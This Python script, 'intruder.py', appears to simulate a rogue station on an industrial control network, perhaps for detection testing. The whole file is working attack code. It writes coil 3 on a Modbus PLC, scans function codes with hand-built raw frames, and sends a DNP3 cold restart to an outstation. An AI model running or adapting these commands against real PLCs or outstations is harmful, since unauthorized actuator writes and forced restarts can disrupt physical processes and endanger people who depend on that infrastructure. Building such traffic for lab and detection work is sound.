"""A station that nobody listed: writes a coil, scans function codes, restarts the outstation.

Usage: intruder.py PLC OUTSTATION
"""
import asyncio
import socket
import struct
import sys

from dnp3.application.builder import build_cold_restart_request
from dnp3.master import DefaultSOEHandler, Master, MasterConfig, MasterTcpRunner
from pymodbus.client import ModbusTcpClient


def write_coil(plc):
    client = ModbusTcpClient(plc, port=502)
    client.connect()
    client.write_coil(3, True, device_id=1)
    client.close()
    print("intruder: coil 3 written")


def scan_functions(plc):
    """Every public function code with an empty body: raw, since no client library sends such requests."""
    with socket.create_connection((plc, 502), timeout=2) as scan:
        for number, function in enumerate([*range(1, 25), 43, 65, 100]):
            scan.sendall(struct.pack("!HHHBB", number, 0, 2, 1, function))
            scan.settimeout(0.2)
            try:
                scan.recv(512)
            except TimeoutError:
                pass
    print("intruder: function codes scanned")


async def cold_restart(outstation):
    master = Master(handler=DefaultSOEHandler(), config=MasterConfig(address=99, outstation_address=10))
    async with MasterTcpRunner(master=master, host=outstation, port=20000) as runner:
        await runner.send(build_cold_restart_request(seq=1))
        await asyncio.sleep(1)
    print("intruder: cold restart sent")


write_coil(sys.argv[1])
scan_functions(sys.argv[1])
asyncio.run(cold_restart(sys.argv[2]))
